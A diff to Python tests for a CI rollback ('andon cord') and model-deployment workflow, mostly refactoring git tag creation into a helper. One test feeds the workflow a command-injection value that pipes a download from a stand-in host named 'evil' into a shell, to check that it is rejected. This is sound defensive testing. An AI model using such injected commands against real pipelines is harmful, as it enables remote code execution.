@@ -25,6 +25,7 @@ from tests.workflow_steps import (
     git,
     github_output,
     load,
+    release_tag,
     repository,
     run_script,
     run_step,
@@ -194,7 +195,7 @@ def test_no_expression_is_pasted_into_a_shell_step_that_takes_user_input() -> No
 def test_the_andon_cord_refuses_an_invalid_or_unpromoted_image_tag(tmp_path: Path) -> None:
     root = repository(tmp_path / "repo")
     for image in ("sha-aaa", "sha-bbb"):
-        git(root, "tag", "-a", f"promoted/{image}", "-m", "promote")
+        release_tag(root, "promoted", image)
     pick = step_script("andon-cord.yml", "rollback", step_id="pick")
     for bad, message in (
         ('x"; curl evil | sh; "', "is not an image tag"),
@@ -264,19 +265,11 @@ def test_the_andon_cord_picks_the_newest_promoted_model_before_the_current_one(
     """Run the workflow's own selection script against a git repo with promotion tags."""
     root = repository(tmp_path / "repo")
     for day, image in enumerate(["sha-aaa", "sha-bbb", "sha-ccc"], start=1):
-        git(
-            root,
-            "tag",
-            "-a",
-            f"promoted/{image}",
-            "-m",
-            "promote",
-            date=f"2026-01-0{day}T00:00:00Z",
-        )
+        release_tag(root, "promoted", image, day)
 
     assert pick_rollback(root) == {"current": "sha-ccc", "restore": "sha-bbb"}
     assert pick_rollback(root, "sha-aaa") == {"current": "sha-ccc", "restore": "sha-aaa"}
-    git(root, "tag", "-a", "rolled-back/sha-ccc", "-m", "bad", date="2026-01-04T00:00:00Z")
+    release_tag(root, "rolled-back", "sha-ccc", 4)
     assert pick_rollback(root) == {"current": "sha-bbb", "restore": "sha-aaa"}
 
 
@@ -341,10 +334,10 @@ def test_only_a_new_promotion_is_deployed(tmp_path: Path) -> None:
         "image_tag": "flight-delay-abc123",
         "model": "flight-delay:abc123",
     }
-    git(root, "tag", "-a", "promoted/flight-delay-abc123", "-m", "deployed")
+    release_tag(root, "promoted", "flight-delay-abc123")
     assert release(root, new) == {"deploy": "false"}  # deployed already
     git(root, "tag", "-d", "promoted/flight-delay-abc123")
-    git(root, "tag", "-a", "rolled-back/flight-delay-abc123", "-m", "bad")
+    release_tag(root, "rolled-back", "flight-delay-abc123")
     assert release(root, new) == {"deploy": "false"}  # pulled by the andon cord
 
 
